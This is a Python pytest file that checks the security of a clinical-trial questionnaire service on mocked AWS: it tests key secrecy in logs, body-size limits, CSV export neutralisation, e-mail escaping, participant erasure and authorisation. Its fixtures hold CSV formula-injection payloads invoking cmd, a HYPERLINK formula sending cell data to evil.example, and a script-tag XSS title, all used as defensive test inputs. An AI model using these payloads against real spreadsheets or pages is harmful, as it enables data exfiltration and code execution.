"""Security properties of the service, end to end on moto.

- API keys never appear in logs (raw or hashed) nor in any response after the one that
  created them;
- oversized and absurdly nested bodies are refused cleanly, never with a 500;
- free text is stored exactly as given, neutralised for spreadsheets in the CSV export,
  never e-mailed and never logged, and the e-mails escape what they do show (the title);
- a participant can be erased on request without a trace in either table (checked by Scan,
  which no request path ever uses) while the aggregates are corrected and an audit record
  without data stays;
- a submitter key can only submit, and only to its own trial.
"""

from __future__ import annotations

import csv
import email
import email.policy
import hashlib
import io
import json
import logging
import pathlib
import statistics
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient

import conftest
from adapters.dynamodb import deserialize
from handlers import stream_batch
from handlers.api_app import create_app
from handlers.stream_batch import make_handler
from handlers.wiring import Container, build
from local.pump import StreamPump
from services.rate_limit import RateLimiter, RatePolicy

TRIAL = "cmt-pilot"
OTHER_TRIAL = "cmt-other"
SUBMISSIONS = f"/v1/trials/{TRIAL}/submissions"
SCRIPT_TITLE = "<script>alert('pwned')</script> & <b>CMT</b> pilot"
FREE_TEXT = {
    # formula-like text (OWASP CSV injection) ...
    "critical_situations": "=cmd|' /C calc'!A0",
    "critical_thoughts": "+1",
    "soothing_situations": "@SUM(1+9)*cmd|' /C calc'!A0",
    # ... and Unicode, control characters, quotes, separators and line breaks
    "soothing_thoughts": (
        'Zoë said "non, merci", then 😊 \u202eevil\u202c; tab\there, bell\x07, esc\x1b[31m,'
        " CRLF\r\nnext line, LS\u2028end, 漢字, ZWJ 👩\u200d👩\u200d👧"
    ),
}
MORE_FREE_TEXT = {
    "critical_situations": "-2+3+cmd|' /C calc'!A0",
    "critical_thoughts": "\tleading tab",
    "soothing_situations": "\rleading carriage return",
    "soothing_thoughts": '=HYPERLINK("http://evil.example/?"&A1,"click")',
}
MARKER = "MARKER-d1a7y-7f3a9c"


# -- fixtures ----------------------------------------------------------------------------------


@dataclass
class Stack:
    container: Container
    client: TestClient
    pump: StreamPump
    aws: dict[str, Any]
    outbox: pathlib.Path


@pytest.fixture
def stack(world: conftest.World, tmp_path: pathlib.Path) -> Iterator[Stack]:
    """The app and the stream pump on moto, with every sent mail also written to an outbox."""
    aws = world.aws
    outbox = tmp_path / "outbox"
    container = build(conftest.settings_for_tests(outbox_dir=str(outbox)), clock=world.clock)
    queue_url = aws["sqs"].get_queue_url(QueueName=conftest.NAMES.dead_letter_queue)["QueueUrl"]
    pump = StreamPump(
        streams_client=aws["dynamodbstreams"],
        dynamodb_client=aws["dynamodb"],
        table_name=conftest.NAMES.submissions_table,
        handler=make_handler(container.scoring),
        sqs_client=aws["sqs"],
        dead_letter_queue_url=queue_url,
        region=conftest.REGION,
    )
    with TestClient(create_app(container), raise_server_exceptions=False) as client:
        yield Stack(container, client, pump, aws, outbox)


def scan(client: Any, table: str) -> list[dict[str, Any]]:
    """Every item of a table (tests only: no request path ever scans)."""
    items: list[dict[str, Any]] = []
    kwargs: dict[str, Any] = {"TableName": table, "ConsistentRead": True}
    while True:
        page = client.scan(**kwargs)
        items += [deserialize(i) for i in page["Items"]]
        if "LastEvaluatedKey" not in page:
            return items
        kwargs["ExclusiveStartKey"] = page["LastEvaluatedKey"]


def diary(participant_id: str, week: int, notes: dict[str, str] | None) -> dict[str, Any]:
    return conftest.submission(
        participant_id=participant_id,
        instrument="diary",
        timepoint=f"week-{week}",
        responses={str(i): (i % 10) + 1 for i in range(1, 15)},
        notes=notes,
    )


def fscrs(participant_id: str, item_9: int) -> dict[str, Any]:
    responses = {str(i): 1 for i in range(1, 23)}
    responses["9"] = item_9
    return conftest.submission(
        participant_id=participant_id, instrument="fscrs", responses=responses
    )


def logged_lines(capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture) -> list[str]:
    """Everything logged so far, as the Lambda functions would print it.

    Each captured record formatted by the service's own Powertools JSON formatter (what goes
    to CloudWatch), each record's raw attributes (extras included, in case a formatter would
    drop one), and whatever reached stdout/stderr directly.
    """
    out, err = capfd.readouterr()
    formatter = stream_batch.logger.registered_formatter
    lines = [formatter.format(r) for r in caplog.records]
    lines += [json.dumps(r.__dict__, default=str) for r in caplog.records]
    return [*lines, *out.splitlines(), *err.splitlines()]


def assert_problem(response: Any, *statuses: int) -> dict[str, Any]:
    assert response.status_code in statuses, (response.status_code, response.text[:500])
    assert response.headers["content-type"].startswith("application/problem+json")
    body = response.json()
    assert {"type", "title", "status", "detail"} <= set(body)
    assert body["status"] == response.status_code
    assert "Traceback" not in response.text
    return body


# -- API keys ----------------------------------------------------------------------------------


def test_api_keys_never_appear_in_logs_or_in_any_response_after_creation(
    stack: Stack, capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)  # the deployed level (POWERTOOLS_LOG_LEVEL)
    client = stack.client
    keys = conftest.make_trial(client, stack.container, participants=("P01", "P02"))
    secrets = [
        h["Authorization"].removeprefix("Bearer ")
        for h in (keys.admin, keys.coordinator, keys.submitter)
    ]
    wrong = "cmt_" + "x" * 43
    secrets.append(wrong)

    # a day's traffic with every key, plus refused attempts with a wrong key
    responses = []
    assert client.post(SUBMISSIONS, headers=keys.submitter, json=fscrs("P01", 4)).status_code == 201
    assert (
        client.post(SUBMISSIONS, headers=keys.coordinator, json=diary("P02", 1, None)).status_code
        == 201
    )
    stack.pump.drain()
    for path in (
        "",
        "/participants",
        "/participants/P01/scores",
        "/summary",
        "/export.csv",
        "/export.csv?layout=wide",
        "/codebook",
        "/alerts",
        "/audit",
    ):
        r = client.get(f"/v1/trials/{TRIAL}{path}", headers=keys.coordinator)
        assert r.status_code == 200, (path, r.text)
        responses.append(r)
    responses.append(client.post(f"/v1/trials/{TRIAL}/reports/pre-post", headers=keys.coordinator))
    responses.append(client.get(f"/v1/trials/{TRIAL}/reports/pre-post", headers=keys.coordinator))
    responses.append(client.get(f"/v1/trials/{TRIAL}", headers=keys.admin))
    for headers in ({"Authorization": f"Bearer {wrong}"}, keys.submitter):
        r = client.get(f"/v1/trials/{TRIAL}/summary", headers=headers)
        assert_problem(r, 401, 403)
        responses.append(r)
    assert all(r.status_code < 500 for r in responses)

    logged = "\n".join(logged_lines(capfd, caplog))
    assert '"message":"request"' in logged  # the request log was captured
    for secret in secrets:
        for form in (secret, hashlib.sha256(secret.encode()).hexdigest(), secret[4:]):
            assert form not in logged
            for r in responses:
                assert form not in r.text, r.request.url
                assert all(form not in v for v in r.headers.values())
    # what is stored: the key's hash as the item key, never the key
    stored = json.dumps(scan(stack.aws["dynamodb"], conftest.NAMES.main_table), default=str)
    for secret in secrets:
        assert secret not in stored
        assert secret[4:] not in stored


# -- hostile bodies ----------------------------------------------------------------------------


def test_a_body_over_256_kib_is_refused_with_413_whether_or_not_it_declares_its_length(
    stack: Stack,
) -> None:
    keys = conftest.make_trial(stack.client, stack.container)
    body = diary("P01", 1, {"critical_thoughts": "x" * (256 * 1024)})
    raw = json.dumps(body).encode()
    assert len(raw) > 256 * 1024
    declared = stack.client.post(
        SUBMISSIONS, headers={**keys.submitter, "Content-Type": "application/json"}, content=raw
    )
    assert_problem(declared, 413)

    def chunks() -> Iterator[bytes]:
        for start in range(0, len(raw), 16 * 1024):
            yield raw[start : start + 16 * 1024]

    streamed = stack.client.post(
        SUBMISSIONS,
        headers={**keys.submitter, "Content-Type": "application/json"},
        content=chunks(),
    )
    assert "content-length" not in {k.lower() for k in streamed.request.headers}
    assert_problem(streamed, 413)
    # the refusal comes before authentication, so it leaks nothing about the key either
    anonymous = stack.client.post(
        SUBMISSIONS, headers={"Content-Type": "application/json"}, content=raw
    )
    assert_problem(anonymous, 413)
    assert scan(stack.aws["dynamodb"], conftest.NAMES.submissions_table) == []


def _nested_lists(depth: int) -> str:
    return "[" * depth + "]" * depth


def _nested_objects(depth: int) -> str:
    return '{"1":' * depth + "1" + "}" * depth


def _raw_diary(notes_json: str = "null", responses_json: str = '{"1": 3}') -> bytes:
    return (
        '{"participant_id": "P01", "instrument": "diary", "timepoint": "week-1", '
        f'"completed_at": "2026-11-20T10:15:00Z", "responses": {responses_json}, '
        f'"notes": {notes_json}}}'
    ).encode()


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(
            _raw_diary(notes_json=f'{{"critical_thoughts": {_nested_lists(500)}}}'),
            id="500-lists-in-notes",
        ),
        pytest.param(
            _raw_diary(responses_json=f'{{"1": {_nested_objects(500)}}}'),
            id="500-objects-in-responses",
        ),
        pytest.param(
            _raw_diary(notes_json=f'{{"critical_thoughts": {_nested_lists(10_000)}}}'),
            id="10000-lists-in-notes",
        ),
        pytest.param(
            _raw_diary(responses_json=f'{{"1": {_nested_objects(10_000)}}}'),
            id="10000-objects-in-responses",
        ),
        pytest.param(_raw_diary(notes_json=_nested_lists(100_000)), id="100000-lists-over-256-KiB"),
    ],
)
def test_deeply_nested_bodies_are_refused_cleanly(stack: Stack, body: bytes) -> None:
    keys = conftest.make_trial(stack.client, stack.container)
    r = stack.client.post(
        SUBMISSIONS, headers={**keys.submitter, "Content-Type": "application/json"}, content=body
    )
    # json.loads gives up on very deep nesting (RecursionError): a 422 naming the body
    assert_problem(r, 413, 422)
    assert len(r.content) < 4096  # the refusal does not echo the nesting back
    assert scan(stack.aws["dynamodb"], conftest.NAMES.submissions_table) == []


def test_a_body_nested_too_deeply_to_parse_is_a_422_naming_the_body(stack: Stack) -> None:
    keys = conftest.make_trial(stack.client, stack.container)
    body = _raw_diary(notes_json=f'{{"critical_thoughts": {_nested_lists(10_000)}}}')
    r = stack.client.post(
        SUBMISSIONS, headers={**keys.submitter, "Content-Type": "application/json"}, content=body
    )
    problem = assert_problem(r, 422)
    assert problem["errors"]
    assert problem["errors"][0]["loc"][0] == "body"


# -- free text -------------------------------------------------------------------------------


def test_free_text_is_stored_as_given_and_neutralised_for_spreadsheets_in_the_export(
    stack: Stack,
) -> None:
    keys = conftest.make_trial(stack.client, stack.container, participants=("P01",))
    sent = {1: FREE_TEXT, 2: MORE_FREE_TEXT}
    for week, notes in sent.items():
        r = stack.client.post(SUBMISSIONS, headers=keys.submitter, json=diary("P01", week, notes))
        assert r.status_code == 201, r.text
    stack.pump.drain()

    # stored exactly as given (read straight from the table)
    stored = {
        i["timepoint"]: i.get("notes")
        for i in scan(stack.aws["dynamodb"], conftest.NAMES.submissions_table)
    }
    assert stored == {f"week-{w}": notes for w, notes in sent.items()}

    # the long export parses back with csv into one row per diary subscale
    r = stack.client.get(f"/v1/trials/{TRIAL}/export.csv", headers=keys.coordinator)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    assert not r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8"), newline="")))
    assert len(rows) == 2 * 2  # two diaries x two subscales
    for row in rows:
        notes = sent[int(row["timepoint"].removeprefix("week-"))]
        for field, text in notes.items():
            expected = "'" + text if text[0] in "=+-@\t\r" else text
            assert row[field] == expected, (field, row[field])
    for row in rows:
        # a spreadsheet sees text, never a formula: every such cell starts with a quote
        for field in FREE_TEXT:
            assert row[field][0] not in "=+-@\t\r"


def _mails(outbox: pathlib.Path) -> list[email.message.EmailMessage]:
    return [
        email.message_from_bytes(p.read_bytes(), policy=email.policy.default)  # type: ignore[misc]
        for p in sorted(outbox.glob("*.eml"))
    ]


def test_emails_never_carry_free_text_and_escape_the_trial_title(stack: Stack) -> None:
    admin = stack.container.keys.create(role="admin", trial_id="*", label="test").api_key
    keys = conftest.make_trial(
        stack.client, stack.container, participants=("P01",), admin_key=admin
    )
    r = stack.client.patch(f"/v1/trials/{TRIAL}", headers=keys.admin, json={"title": SCRIPT_TITLE})
    assert r.status_code == 200, r.text
    notes = {**FREE_TEXT, "critical_thoughts": f"{MARKER} I want to hurt myself"}
    for body in (diary("P01", 1, notes), diary("P01", 2, MORE_FREE_TEXT), fscrs("P01", 4)):
        r = stack.client.post(SUBMISSIONS, headers=keys.submitter, json=body)
        assert r.status_code == 201, r.text
    stack.pump.drain()
    stack.container.weekly.run(stack.container.trials.get(TRIAL))

    mails = _mails(stack.outbox)
    kinds = sorted("Safety alert" in m["Subject"] for m in mails)
    assert kinds == [False, True]  # one weekly summary, one safety alert
    for mail in mails:
        html = mail.get_body(preferencelist=("html",)).get_content()
        text = mail.get_body(preferencelist=("plain",)).get_content()
        for part in (html, text, str(mail["Subject"])):
            assert MARKER not in part
            for value in [*FREE_TEXT.values(), *MORE_FREE_TEXT.values()]:
                assert value not in part
        assert "<script>" not in html
        assert "<b>CMT</b>" not in html
        assert "&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt; &amp; &lt;b&gt;CMT" in html
        assert "\n" not in str(mail["Subject"]).strip()


def test_responses_and_notes_never_appear_in_logs(
    stack: Stack, capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)  # the deployed level (POWERTOOLS_LOG_LEVEL)
    keys = conftest.make_trial(stack.client, stack.container, participants=("P01",))
    accepted = diary("P01", 1, {"critical_thoughts": f"{MARKER} accepted"})
    refused = diary("P01", 2, {"critical_thoughts": f"{MARKER} too long " * 400, "unknown": MARKER})
    refused["responses"]["3"] = 99
    for body, status in ((accepted, 201), (refused, 422), (fscrs("P01", 4), 201)):
        r = stack.client.post(SUBMISSIONS, headers=keys.submitter, json=body)
        assert r.status_code == status, r.text
    stack.pump.drain()

    lines = logged_lines(capfd, caplog)
    logged = "\n".join(lines)
    assert "submission scored" in logged  # the scoring log was captured
    assert MARKER not in logged
    for word in ('"responses"', '"notes"', "critical_thoughts", "soothing"):
        assert word not in logged
    records = [json.loads(line) for line in lines if line.startswith('{"level"')]
    assert records
    assert all("responses" not in r and "notes" not in r for r in records)


# -- erasure ---------------------------------------------------------------------------------


def test_an_erased_participant_leaves_no_data_in_either_table_and_the_aggregates_are_corrected(
    stack: Stack,
) -> None:
    client = stack.client
    keys = conftest.make_trial(client, stack.container, participants=("P01", "P02", "P03"))
    hads = {"P01": 3, "P02": 1, "P03": 2}
    ids: dict[str, str] = {}
    for pid, value in hads.items():
        body = conftest.submission(
            participant_id=pid, responses={str(i): value for i in range(1, 15)}
        )
        r = client.post(SUBMISSIONS, headers=keys.submitter, json=body)
        assert r.status_code == 201, r.text
        ids[pid] = r.json()["submission_id"]
    # P02 also corrects their HADS, sends a diary with free text and meets the safety rule
    correction = conftest.submission(
        participant_id="P02", responses={str(i): 0 for i in range(1, 15)}, supersedes=ids["P02"]
    )
    for body, headers in (
        (correction, keys.submitter),
        (
            diary("P02", 1, {"critical_thoughts": MARKER}),
            {**keys.submitter, "Idempotency-Key": "k-1"},
        ),
        (fscrs("P02", 4), keys.submitter),
    ):
        r = client.post(SUBMISSIONS, headers=headers, json=body)
        assert r.status_code == 201, r.text
    stack.pump.drain()
    assert (
        len(client.get(f"/v1/trials/{TRIAL}/alerts", headers=keys.coordinator).json()["alerts"])
        == 1
    )

    r = client.delete(f"/v1/trials/{TRIAL}/participants/P02", headers=keys.coordinator)
    assert r.status_code == 200, r.text
    assert r.json() == {
        "trial_id": TRIAL,
        "participant_id": "P02",
        "submissions_deleted": 4,
        "scores_deleted": 4,
        "alerts_deleted": 1,
        "report_versions_deleted": 0,  # no report was published
        "export_files_deleted": 0,  # no export was made
        "report_job_id": None,  # done within the request
    }
    stack.pump.drain()  # the deletions' REMOVE records re-create nothing

    # Scan both tables: nothing of P02 is left but the audit trail (ids, no data); the
    # aggregates keep no submission ids at all (the idempotency record of their diary, which
    # named its slot and hashed its body, went with it)
    submissions = scan(stack.aws["dynamodb"], conftest.NAMES.submissions_table)
    assert not [i for i in submissions if "P02" in json.dumps(i, default=str)]
    main = scan(stack.aws["dynamodb"], conftest.NAMES.main_table)
    p02_ids = _ids_of(main, "P02")
    remaining = [i for i in main if "P02" in json.dumps(i, default=str) or p02_ids & _values(i)]
    kinds = {
        i.get("entity") or ("aggregate" if i["sk"].startswith("AG#") else i["sk"])
        for i in remaining
    }
    assert kinds <= {"audit"}, kinds
    for item in remaining:
        text = json.dumps(item, default=str)
        assert MARKER not in text
        assert "responses" not in text
        assert "notes" not in text
    erase_events = [
        i for i in main if i.get("entity") == "audit" and i["action"] == "participant.erase"
    ]
    assert len(erase_events) == 1
    assert erase_events[0]["targets"]["participant_id"] == "P02"
    assert set(erase_events[0]["targets"]) == {
        "participant_id",
        "submissions_deleted",
        "scores_deleted",
        "alerts_deleted",
        "report_versions_deleted",
        "export_files_deleted",
    }

    # the aggregates are corrected: as if P02 had never submitted
    summary = client.get(f"/v1/trials/{TRIAL}/summary", headers=keys.coordinator).json()
    cells = {(a["instrument"], a["timepoint"], a["subscale"]): a for a in summary["aggregates"]}
    for subscale in ("anxiety", "depression"):
        row = cells[("hads", "week-1", subscale)]
        kept = [7.0 * hads["P01"], 7.0 * hads["P03"]]
        assert (row["n"], row["mean"]) == (2, statistics.fmean(kept))
        assert row["sd"] == pytest.approx(statistics.stdev(kept))
    assert all(a["n"] == 0 for k, a in cells.items() if k[0] in ("fscrs", "diary"))
    assert summary["enrolment"]["total"] == 2
    assert client.get(f"/v1/trials/{TRIAL}/alerts", headers=keys.coordinator).json()["alerts"] == []
    gone = client.get(f"/v1/trials/{TRIAL}/participants/P02/scores", headers=keys.coordinator)
    assert_problem(gone, 404)
    export = client.get(f"/v1/trials/{TRIAL}/export.csv", headers=keys.coordinator).text
    assert "P02" not in export
    assert MARKER not in export
    audit = client.get(f"/v1/trials/{TRIAL}/audit?limit=500", headers=keys.coordinator).text
    assert MARKER not in audit
    assert "responses" not in audit


def _ids_of(items: list[dict[str, Any]], participant_id: str) -> set[str]:
    """Submission ids P02 had, from the audit trail that stays."""
    return {
        i["targets"]["submission_id"]
        for i in items
        if i.get("entity") == "audit"
        and i["targets"].get("participant_id") == participant_id
        and "submission_id" in i["targets"]
    }


def _values(item: dict[str, Any]) -> set[str]:
    found: set[str] = set()

    def walk(value: Any) -> None:
        if isinstance(value, str):
            found.add(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list | set | tuple):
            for v in value:
                walk(v)

    walk(item)
    return found


# -- authorisation ---------------------------------------------------------------------------


def _routes(app: Any) -> list[tuple[str, str, bool]]:
    """(method, path template, needs a key) of every operation in the OpenAPI document."""
    return [
        (method.upper(), path, bool(op.get("security")))
        for path, ops in app.openapi()["paths"].items()
        for method, op in ops.items()
    ]


def _plausible_body(method: str, path: str) -> dict[str, Any] | None:
    if path.endswith("/submissions"):
        return conftest.submission()
    if path.endswith("/api-keys"):
        return {"role": "coordinator", "label": "sneaky"}
    if path.endswith("/participants") and method == "POST":
        return {"participant_id": "P99"}
    if method == "PATCH":
        return {"status": "withdrawn", "reason": "sneaky"}
    if method == "PUT":
        return {"title": "taken over", "coordinator_emails": ["attacker@example.org"]}
    return None


#: What a submitter key may do in its own trial (v1.1: read the Questionnaires it renders,
#: and submit natively or as FHIR; the FHIR body here is a native one, so it is refused 422).
SUBMITTER_MAY = {
    ("POST", "/v1/trials/{trial_id}/submissions"): 201,
    ("GET", "/v1/trials/{trial_id}/questionnaires/{instrument_id}"): 200,
    ("POST", "/v1/trials/{trial_id}/fhir/QuestionnaireResponse"): 422,
}


def assert_forbidden(response: Any, template: str) -> None:
    """403: problem+json, or on the FHIR route an OperationOutcome saying the same."""
    if "/fhir/" in template:
        assert response.status_code == 403, response.text
        assert response.headers["content-type"] == "application/fhir+json"
        assert [i["code"] for i in response.json()["issue"]] == ["forbidden"]
        return
    problem = assert_problem(response, 403)
    assert set(problem) <= {"type", "title", "status", "detail", "instance"}


def test_a_submitter_key_can_only_submit_and_only_to_its_own_trial(stack: Stack) -> None:
    client = stack.client
    # the sweep calls every route twice with one key, beyond a key's burst: the rate limit is
    # not what this test is about (test_api_keys_and_limits is), so it is lifted here
    stack.container.key_limits = RateLimiter(RatePolicy(per_second=1000, burst=10_000))
    admin = stack.container.keys.create(role="admin", trial_id="*", label="test").api_key
    a = conftest.make_trial(client, stack.container, trial_id=TRIAL, admin_key=admin)
    b = conftest.make_trial(client, stack.container, trial_id=OTHER_TRIAL, admin_key=admin)
    b_before = scan(stack.aws["dynamodb"], conftest.NAMES.main_table)

    routes = _routes(client.app)
    assert len([r for r in routes if r[2]]) >= 15
    seen: list[tuple[str, str, int]] = []
    for method, template, needs_key in routes:
        if not needs_key:
            continue
        for trial in (TRIAL, OTHER_TRIAL):
            path = template.format(
                trial_id=trial,
                participant_id="P01",
                key_id="k_0000000000000000",
                instrument_id="hads",
                export_id="01ARZ3NDEKTSV4RRFFQ69G5FAV",
                job_id="01ARZ3NDEKTSV4RRFFQ69G5FAV",
            )
            r = client.request(
                method, path, headers=a.submitter, json=_plausible_body(method, template)
            )
            seen.append((method, path, r.status_code))
            if trial == TRIAL and (method, template) in SUBMITTER_MAY:
                # what a submitter key is for
                assert r.status_code == SUBMITTER_MAY[method, template], r.text
                continue
            assert_forbidden(r, template)
    # B saw nothing change: same items, no submission stored for it
    b_after = scan(stack.aws["dynamodb"], conftest.NAMES.main_table)
    changed = [
        i for i in b_after if i not in b_before and OTHER_TRIAL in json.dumps(i, default=str)
    ]
    assert changed == []
    stored = scan(stack.aws["dynamodb"], conftest.NAMES.submissions_table)
    assert {i["trial_id"] for i in stored} == {TRIAL}
    # and a coordinator of A is just as powerless in B
    for method, template, needs_key in routes:
        if needs_key:
            path = template.format(
                trial_id=OTHER_TRIAL,
                participant_id="P01",
                key_id="k_0000000000000000",
                instrument_id="hads",
                export_id="01ARZ3NDEKTSV4RRFFQ69G5FAV",
                job_id="01ARZ3NDEKTSV4RRFFQ69G5FAV",
            )
            r = client.request(
                method, path, headers=a.coordinator, json=_plausible_body(method, template)
            )
            assert_forbidden(r, template)
    assert b.coordinator != a.coordinator
    assert len(seen) >= 30


def test_an_unparsable_body_without_a_key_is_401_not_a_parse_error(stack: Stack) -> None:
    body = _raw_diary(notes_json=f'{{"critical_thoughts": {_nested_lists(10_000)}}}')
    r = stack.client.post(SUBMISSIONS, headers={"Content-Type": "application/json"}, content=body)
    assert_problem(r, 401)
    r = stack.client.put(
        "/v1/trials/anchors", headers={"Content-Type": "application/json"}, content=b"bootstrap"
    )
    assert_problem(r, 401)


@pytest.mark.parametrize(
    ("method", "path", "auth"),
    [
        ("GET", "/v1/health", False),
        ("GET", f"/v1/trials/{TRIAL}/summary", True),
        ("GET", f"/v1/trials/{TRIAL}/export.csv", True),
        ("GET", f"/v1/trials/{TRIAL}/summary", False),  # a refusal
        ("GET", "/v1/nowhere", False),
    ],
)
def test_every_answer_is_uncacheable_and_never_sniffed(
    stack: Stack, method: str, path: str, auth: bool
) -> None:
    keys = conftest.make_trial(stack.client, stack.container, participants=())
    r = stack.client.request(method, path, headers=keys.coordinator if auth else {})
    assert r.headers["cache-control"] == "no-store"
    assert r.headers["x-content-type-options"] == "nosniff"


def test_erasure_republishes_the_report_and_deletes_every_stored_version_naming_them(
    stack: Stack, world: conftest.World
) -> None:
    client = stack.client
    keys = conftest.make_trial(client, stack.container, participants=("P01", "P02", "P03"))
    for pid, pre, post in (("P01", 3, 1), ("P02", 2, 1), ("P03", 3, 2)):
        for timepoint, value in (("week-1", pre), ("week-12", post)):
            body = conftest.submission(
                participant_id=pid,
                timepoint=timepoint,
                responses={str(i): value for i in range(1, 15)},
            )
            assert client.post(SUBMISSIONS, headers=keys.submitter, json=body).status_code == 201
    stack.pump.drain()
    report = f"/v1/trials/{TRIAL}/reports/pre-post"
    assert client.post(report, headers=keys.coordinator).status_code == 200
    world.clock.advance(timedelta(days=1))  # a second dated copy, and latest overwritten
    assert "P02" in client.post(report, headers=keys.coordinator).text

    r = client.delete(f"/v1/trials/{TRIAL}/participants/P02", headers=keys.coordinator)
    assert r.status_code == 200, r.text
    assert r.json()["report_versions_deleted"] >= 4  # two dated copies, latest twice, figures

    latest = client.get(report, headers=keys.coordinator)
    assert latest.status_code == 200
    assert "P02" not in latest.text
    assert "P01" in latest.text
    s3, bucket = stack.aws["s3"], conftest.NAMES.reports_bucket
    versions = s3.list_object_versions(Bucket=bucket, Prefix=f"reports/{TRIAL}/")["Versions"]
    assert versions, "the republished report is kept"
    for version in versions:
        body = s3.get_object(Bucket=bucket, Key=version["Key"], VersionId=version["VersionId"])[
            "Body"
        ].read()
        assert b"P02" not in body, version["Key"]
